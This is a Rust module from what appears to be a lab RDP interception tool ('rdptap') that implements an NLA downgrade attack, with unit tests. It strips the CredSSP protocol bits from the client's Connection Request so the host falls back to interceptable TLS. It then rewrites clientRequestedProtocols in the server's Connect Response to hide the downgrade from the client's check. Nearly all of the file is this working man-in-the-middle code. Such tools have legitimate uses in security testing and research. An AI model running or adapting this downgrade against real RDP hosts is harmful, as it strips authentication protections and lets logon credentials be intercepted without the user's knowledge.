//! `--nla downgrade`, a lab option that alters traffic: remove NLA (HYBRID, HYBRID_EX)
//! from the client's Connection Request so the host selects plain TLS, which rdptap can
//! then intercept; and put the client's original request back into the host's MCS
//! Connect Response (clientRequestedProtocols), which the client may compare with what
//! it sent to detect exactly this downgrade.
//!
//! This lowers security: without NLA the host shows its logon screen before anyone has
//! authenticated, and credentials travel inside the RDP session instead of CredSSP.

use crate::decode::names::Protocols;
use bytes::{Bytes, BytesMut};

/// Bits removed from requestedProtocols: the CredSSP-based protocols.
const NLA_BITS: u32 = Protocols::HYBRID.0 | Protocols::HYBRID_EX.0;

/// Rewrites the RDP_NEG_REQ of a whole Connection Request TPKT frame.
///
/// Returns the new frame and (requested, sent), or None when the request carries no
/// RDP_NEG_REQ or does not ask for NLA (nothing to remove).
pub fn strip_nla(frame: &[u8]) -> Option<(Bytes, Protocols, Protocols)> {
    // RDP_NEG_REQ is the last 8 bytes of the X.224 CR: type 0x01, flags, length 8
    // (LE), requestedProtocols (LE). The optional cookie/routing token comes before it.
    if frame.len() < 11 + 8 || frame.get(5) != Some(&0xe0) {
        return None;
    }
    let at = frame.len() - 8;
    let neg = &frame[at..];
    if neg[0] != 0x01 || u16::from_le_bytes([neg[2], neg[3]]) != 8 {
        return None;
    }
    let requested = u32::from_le_bytes([neg[4], neg[5], neg[6], neg[7]]);
    if requested & NLA_BITS == 0 {
        return None;
    }
    // SSL stays (or is added): the point is a TLS session rdptap can terminate.
    let sent = (requested & !NLA_BITS) | Protocols::SSL.0;
    let mut out = BytesMut::from(frame);
    out[at + 4..at + 8].copy_from_slice(&sent.to_le_bytes());
    Some((out.freeze(), Protocols(requested), Protocols(sent)))
}

/// Restores clientRequestedProtocols in the server's first plaintext PDU (the MCS
/// Connect Response), holding bytes until that PDU is whole.
#[derive(Debug)]
pub struct Restore {
    original: Protocols,
    held: BytesMut,
    done: bool,
    /// What was rewritten (from, to), once it was.
    pub rewritten: Option<(Protocols, Protocols)>,
}

/// The most bytes held while waiting for the Connect Response: one TPKT frame.
const MAX_HELD: usize = 65535;

impl Restore {
    /// Puts `original` back into the host's Connect Response.
    pub fn new(original: Protocols) -> Self {
        Restore {
            original,
            held: BytesMut::new(),
            done: false,
            rewritten: None,
        }
    }

    /// True once the first PDU has passed (patched or not).
    pub fn done(&self) -> bool {
        self.done
    }

    /// Takes the next plaintext chunk; returns what may be forwarded now.
    pub fn push(&mut self, chunk: BytesMut) -> Option<Bytes> {
        if self.done {
            return Some(chunk.freeze());
        }
        if self.held.is_empty() {
            self.held = chunk;
        } else {
            self.held.extend_from_slice(&chunk);
        }
        let h = &self.held;
        let whole = if h.len() >= 4 && h[0] == 0x03 {
            let len = u16::from_be_bytes([h[2], h[3]]) as usize;
            (h.len() >= len).then_some(len)
        } else if h.len() >= 4 || (!h.is_empty() && h[0] != 0x03) {
            // Not a TPKT frame: nothing to restore, pass it on untouched.
            Some(0)
        } else {
            None
        };
        match whole {
            None if self.held.len() < MAX_HELD => None,
            None => self.release(),
            Some(0) => self.release(),
            Some(len) => {
                let field = requested_offset(&self.held[..len])
                    .and_then(|off| self.held.get_mut(off..off.checked_add(4)?));
                // The offset comes from the host's bytes: a bad one leaves the PDU alone.
                if let Some(field) = field {
                    let from = u32::from_le_bytes([field[0], field[1], field[2], field[3]]);
                    field.copy_from_slice(&self.original.0.to_le_bytes());
                    self.rewritten = Some((Protocols(from), self.original));
                }
                self.release()
            }
        }
    }

    fn release(&mut self) -> Option<Bytes> {
        self.done = true;
        Some(std::mem::take(&mut self.held).freeze())
    }
}

/// Where clientRequestedProtocols sits in a Connect Response frame.
fn requested_offset(frame: &[u8]) -> Option<usize> {
    crate::decode::mcs::patch::client_requested_protocols_offset(frame)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cr(requested: u32) -> Vec<u8> {
        let mut f = vec![3, 0, 0, 19, 14, 0xe0, 0, 0, 0, 0, 0, 1, 0, 8, 0];
        f.extend_from_slice(&requested.to_le_bytes());
        f
    }

    #[test]
    fn strips_hybrid_and_keeps_ssl() {
        let (f, req, sent) = strip_nla(&cr(0x0b)).unwrap();
        assert_eq!(req, Protocols(0x0b));
        assert_eq!(sent, Protocols(0x01));
        assert_eq!(&f[15..19], &[1, 0, 0, 0]);
        assert_eq!(f.len(), 19);
        assert!(strip_nla(&cr(0x01)).is_none());
        assert!(strip_nla(&[3, 0, 0, 11, 6, 0xe0, 0, 0, 0, 0, 0]).is_none());
    }

    #[test]
    fn non_tpkt_passes_untouched() {
        let mut r = Restore::new(Protocols(3));
        let out = r.push(BytesMut::from(&b"\x30\x01\x02\x03"[..])).unwrap();
        assert_eq!(&out[..], b"\x30\x01\x02\x03");
        assert!(r.done() && r.rewritten.is_none());
    }

    #[test]
    fn holds_until_the_frame_is_whole() {
        let mut r = Restore::new(Protocols(3));
        assert!(r.push(BytesMut::from(&[3u8, 0, 0, 9][..])).is_none());
        let out = r
            .push(BytesMut::from(&[2u8, 0xf0, 0x80, 0x7f, 0x66][..]))
            .unwrap();
        assert_eq!(out.len(), 9);
        assert!(r.done());
    }
}
